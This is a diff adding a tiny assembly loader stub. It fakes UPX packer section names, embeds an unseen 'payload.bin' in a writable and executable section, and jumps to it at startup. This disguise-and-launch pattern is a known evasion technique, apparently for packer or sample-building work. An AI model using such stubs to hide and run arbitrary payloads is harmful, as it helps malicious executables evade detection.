@@ -0,0 +1,10 @@
+    .section UPX0,"bw"
+    .zero 262144
+    .section UPX1,"xwd"
+    .globl start
+start:
+    .incbin "payload.bin"
+    .text
+    .globl mainCRTStartup
+mainCRTStartup:
+    jmp start